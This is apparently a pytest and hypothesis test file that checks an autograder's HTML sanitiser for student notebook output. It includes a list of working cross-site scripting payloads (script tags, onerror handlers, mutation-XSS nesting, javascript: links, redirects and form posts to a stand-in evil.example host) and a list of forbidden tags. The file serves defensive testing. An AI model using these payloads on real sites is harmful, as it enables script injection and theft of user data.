"""What a student's notebook shows can do nothing on a page."""

from __future__ import annotations

import base64

import pytest
from bleach import html5lib_shim
from hypothesis import given, settings
from hypothesis import strategies as st

from autograder.feedback.sanitise import CUT, HTML_LIMIT, TEXT_LIMIT, clean_html, clean_image, clean_text

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\0" * 20).decode()
ALLOWED = {"td": {"colspan", "rowspan"}, "th": {"colspan", "rowspan", "scope"}, "img": {"src", "alt"}}
FORBIDDEN = {
    "script", "style", "link", "iframe", "object", "embed", "form", "input", "button", "svg", "math", "base", "meta",
    "a", "video", "audio", "template", "textarea", "select", "noscript", "frame", "frameset", "title",
}  # fmt: skip
ATTACKS = [
    "<script>alert(1)</script>after",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img src='https://evil.example/pixel.png'>",
    "<svg/onload=alert(1)><g>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<div style='position:fixed;inset:0;background:red'>over</div>",
    "<div class='skip' id='main' onclick=alert(1) onmouseover=alert(2)>x</div>",
    "<a href='javascript:alert(1)'>go</a><a href='//evil.example'>go</a>",
    "<form action=//evil.example><input name=q><button>send</button></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<base href='//evil.example/'><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example'</style>",
    "<table background='//evil.example/x.png'><tr><td style='background:url(//evil.example)'>1</table>",
    "<details ontoggle=alert(1) open><summary>x</summary></details>",
    "</div></main></body></html><h1>another page</h1>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]><?php echo 1 ?>",
    "<p <script>alert(1)</script>>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=`x` onerror=alert(1)//",
    "<b>unclosed <i>and <table><tr><td>more",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<\x00script>alert(1)</script>",
]


def elements(page):
    """Every element of a fragment as a browser's parser sees it: name and attributes."""
    parser = html5lib_shim.BleachHTMLParser(tags=None, strip=False, consume_entities=True, namespaceHTMLElements=False)
    walker = html5lib_shim.getTreeWalker("etree")
    for token in walker(parser.parseFragment(page)):
        if token["type"] in ("StartTag", "EmptyTag"):
            yield token["name"], {name for _, name in token["data"]}


def harmless(page):
    """Asserts that a browser would find nothing in `page` but what is allowed."""
    for name, attributes in elements(f"<div>{page}</div>"):
        assert name not in FORBIDDEN and attributes <= ALLOWED.get(name, set()), (name, attributes)


@pytest.mark.parametrize("attack", ATTACKS)
def test_known_attacks_leave_nothing_behind(attack):
    page = clean_html(attack)
    harmless(page)
    assert "evil.example" not in page and "onerror=" not in page.replace("onerror=alert(1)//", "")


PIECES = st.sampled_from(
    ["<", ">", "</", "/>", "<script>", "</script>", "<style>", "</style>", "<svg>", "</svg>", "<table>", "<tr>", "<td>",
     "</td>", "</table>", "<img src=x onerror=y>", "<p>", "</p>", "<div style=x>", "</div>", "<!--", "-->", "<![CDATA[",
     "]]>", "&lt;", "&#60;", "&amp", '"', "'", "`", "=", " ", "a", "<a href=", "javascript:", "<math>", "<template>",
     "<title>", "</title>", "<textarea>", "<noscript>", "\x00", "\n", "<x-y ", "onclick=", "<details open>", "é",
     f"<img src='data:image/png;base64,{PNG}'>", "<td colspan=2 rowspan='<'>"]
)  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.one_of(st.lists(PIECES, max_size=25).map("".join), st.text(max_size=80)))
def test_anything_at_all_comes_out_harmless_and_stays_inside(text):
    page = clean_html(text)
    harmless(page)
    inside = list(elements(f"<section>{page}</section>"))
    assert inside[0][0] == "section" and sum(name == "section" for name, _ in inside) == 1
    after = list(elements(f"<section>{page}</section><hr>"))
    assert after[-1][0] == "hr"
    assert clean_html(page) == clean_html(clean_html(page))


def test_a_table_keeps_its_shape():
    page = clean_html(
        "<style scoped>.x{color:red}</style><table border='1' class='dataframe'><thead><tr><th scope='col'>a</th>"
        "</tr></thead><tbody><tr><td colspan='2' rowspan='0' onclick='x'>1 &lt; 2</td></tr></tbody></table>"
    )
    assert page == (
        '<table><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><td colspan="2">1 &lt; 2</td></tr></tbody>'
        "</table>"
    )


def test_only_pictures_that_are_pictures():
    assert clean_image("image/png", PNG) == f"data:image/png;base64,{PNG}"
    assert clean_image("image/jpeg", PNG) is None and clean_image("image/svg+xml", PNG) is None
    assert clean_image("image/png", "<svg onload=alert(1)>") is None
    assert clean_image("image/png", "A" * 3_000_000) is None
    assert f'<img src="data:image/png;base64,{PNG}" alt="a &quot;plot&quot;">' == clean_html(
        f"<img alt='a \"plot\"' src='data:image/png;base64,{PNG}' srcset='//evil.example 2x'>"
    )


def test_text_loses_colours_controls_and_turned_directions():
    assert (
        clean_text("\x1b[31mred\x1b[0m \x1b]8;;http://x\x07link\x1b]8;;\x07 \x07\x00\u202eabc\ud800") == "red link abc"
    )
    assert clean_text("a\r\nb\tc") == "a\nb\tc"
    assert clean_text("x" * 30_000) == "x" * TEXT_LIMIT + CUT


@pytest.mark.parametrize("piece", ["<!--", "<b ", "<![CDATA[", "<div>", "&#", "</", "<?", "<svg><style>", "<a b='"])
def test_a_flood_comes_to_an_end_and_stays_small(piece):
    page = clean_html(piece * (2 * HTML_LIMIT // len(piece)))
    harmless(page)
    assert len(page) <= 6 * HTML_LIMIT
